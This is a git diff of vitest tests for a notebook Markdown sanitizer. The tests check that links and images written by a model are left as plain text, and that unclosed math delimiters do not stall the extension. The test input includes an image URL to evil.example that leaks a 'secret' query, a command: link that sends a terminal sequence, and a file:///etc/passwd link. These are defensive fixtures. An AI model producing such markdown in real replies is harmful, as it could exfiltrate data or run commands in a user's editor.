@@ -9,6 +9,7 @@ import type StateInline from 'markdown-it/lib/rules_inline/state_inline.mjs';
 import { describe, expect, it } from 'vitest';
 import { notebookMarkdown } from '../../../src/notebook/notebookMarkdown';
 import { mathBlockRule, mathInlineRule } from '../../../webview/src/transcript/mathSyntax';
+import { charactersSearched } from '../../support/searchWork';
 
 /** A notebook's Markdown: HTML on, math only between dollar signs (as markdown-it-katex). */
 function notebookRenderer(): MarkdownIt {
@@ -123,5 +124,48 @@ describe('notebookMarkdown: the answer marker', () => {
 
   it('without an answer nothing is left out', () => {
     expect(notebookMarkdown('<<<42>>>', null)).toBe('&lt;&lt;&lt;42>>>');
+  });
+});
+
+describe('notebookMarkdown: links and images of the model', () => {
+  /** Every link and image token markdown-it finds (a notebook opens links with commands allowed in a trusted workspace, and loads remote images). */
+  function linksIn(markdown: string): string[] {
+    const found: string[] = [];
+    const walk = (tokens: ReturnType<MarkdownIt['parse']>): void => {
+      for (const t of tokens) {
+        if (t.type === 'link_open' || t.type === 'image') found.push(`${t.type} ${t.attrGet('href') ?? t.attrGet('src') ?? ''}`);
+        if (t.children) walk(t.children);
+      }
+    };
+    walk(notebookRenderer().parse(markdown, {}));
+    return found;
+  }
+
+  it('forms no link or image: command:, file: and remote image targets stay text', () => {
+    const text = [
+      'Done ![chart](https://evil.example/leak.png?q=secret) and [Run it](command:workbench.action.terminal.sendSequence?%7B%7D).',
+      'See [the notes][n], [local](file:///etc/passwd), ![x][i] and [plain](https://example.com).',
+      '',
+      '[n]: command:r1ci.solve',
+      '[i]: https://evil.example/p.png',
+      '',
+      '- a list item [nested](vscode://x/y) \\[escaped\\] stays',
+    ].join('\n');
+    const out = notebookMarkdown(text);
+    expect(linksIn(out)).toEqual([]);
+    // The words are all still there to read.
+    expect(notebookRenderer().render(out)).toContain('[Run it](command:workbench.action.terminal.sendSequence?%7B%7D)');
+  });
+
+  it('leaves brackets in math and code alone', () => {
+    expect(notebookMarkdown('$[a, b]$ and `x[0]`')).toBe('$[a, b]$ and `x[0]`');
+  });
+});
+
+describe('notebookMarkdown: delimiters without a closer', () => {
+  it.each(['$a ', '\\( ', '\\[ ', '$$a '])('%j repeated: work grows linearly with the text (a looping reply must not stall the extension host)', (unit) => {
+    const small = charactersSearched(() => notebookMarkdown(unit.repeat(2_000)));
+    const large = charactersSearched(() => notebookMarkdown(unit.repeat(8_000)));
+    expect(large).toBeLessThan(small * 6);
   });
 });
